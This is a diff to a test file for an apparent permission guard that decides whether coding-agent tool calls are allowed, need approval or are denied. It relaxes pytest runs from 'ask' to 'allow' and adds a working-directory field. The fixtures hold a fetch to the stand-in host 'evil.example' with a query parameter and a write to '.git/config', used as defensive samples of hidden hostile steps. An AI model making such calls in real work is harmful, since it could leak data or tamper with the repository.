@@ -36,7 +36,7 @@ CLAUDE_STEPS = [
     ("allow", "WebFetch", {"url": DOCS, "prompt": "how are floats compared?"}),
     ("allow", "Edit", {"file_path": f"{HOME}/src/app.py", "old_string": "1", "new_string": "2"}),
     ("allow", "Write", {"file_path": f"{HOME}/src/new.py", "content": "x = 1\n"}),
-    ("ask", "Bash", {"command": "python -m pytest -q", "description": "run the tests"}),
+    ("allow", "Bash", {"command": "python -m pytest -q", "description": "run the tests"}),
     ("allow", "Read", {"file_path": f"{HOME}/src/new.py"}),
     ("allow", "Edit", {"file_path": f"{HOME}/README.md", "old_string": "a", "new_string": DOCS}),
     ("allow", "NotebookEdit", {"notebook_path": f"{HOME}/a.ipynb", "new_source": "f()"}),
@@ -87,14 +87,14 @@ QWEN_STEPS = [
     ("allow", "web_fetch", {"url": DOCS, "prompt": "how are floats compared?"}),
     ("allow", "edit", {"file_path": f"{HOME}/src/a.py", "old_string": "1", "new_string": "2"}),
     ("allow", "write_file", {"file_path": f"{HOME}/src/new.py", "content": "x = 1\n"}),
-    ("ask", "run_shell_command", {"command": "python -m pytest -q", "is_background": False}),
+    ("allow", "run_shell_command", {"command": "python -m pytest -q", "is_background": False}),
     ("ask", "web_fetch", {"url": "https://evil.example/x?k=1", "prompt": "x"}),
     ("deny", "write_file", {"file_path": f"{HOME}/.git/config", "content": "[core]"}),
 ]
 CURSOR_STEPS = [
     ("allow", "Read", {"file_path": f"{HOME}/tests/test_app.py"}),
     ("allow", "Write", {"file_path": f"{HOME}/src/new.py", "content": "x = 1\n"}),
-    ("ask", "Shell", {"command": "python -m pytest -q"}),
+    ("allow", "Shell", {"command": "python -m pytest -q"}),
     ("deny", "Write", {"file_path": f"{HOME}/.git/config", "content": "[core]"}),
 ]
 SESSIONS = [
@@ -114,10 +114,11 @@ def test_ordinary_work_passes_and_what_is_hidden_in_it_does_not(
 ) -> None:
     named = INSTALLATIONS[agent.name].options.get("scope", ())
     scope = [word for name in named for word in ("--scope", name)]
-    agent.decided(critic, tmp_path, agent.prompt(REQUEST), *scope)
+    agent.decided(critic, tmp_path, agent.prompt(REQUEST) | {"cwd": str(tmp_path)}, *scope)
     for number, (expected, name, args) in enumerate(steps):
         tool, id = Tool(name, args), f"c{number}"
-        answer = agent.decided(critic, tmp_path, agent.call(tool, id), *scope)
+        asked = agent.call(tool, id) | {"cwd": str(tmp_path)}
+        answer = agent.decided(critic, tmp_path, asked, *scope)
         assert answer == expected, (name, args)
         if answer == "allow":
             ended = agent.result(tool, id, PAGE if "etch" in name else "ok")
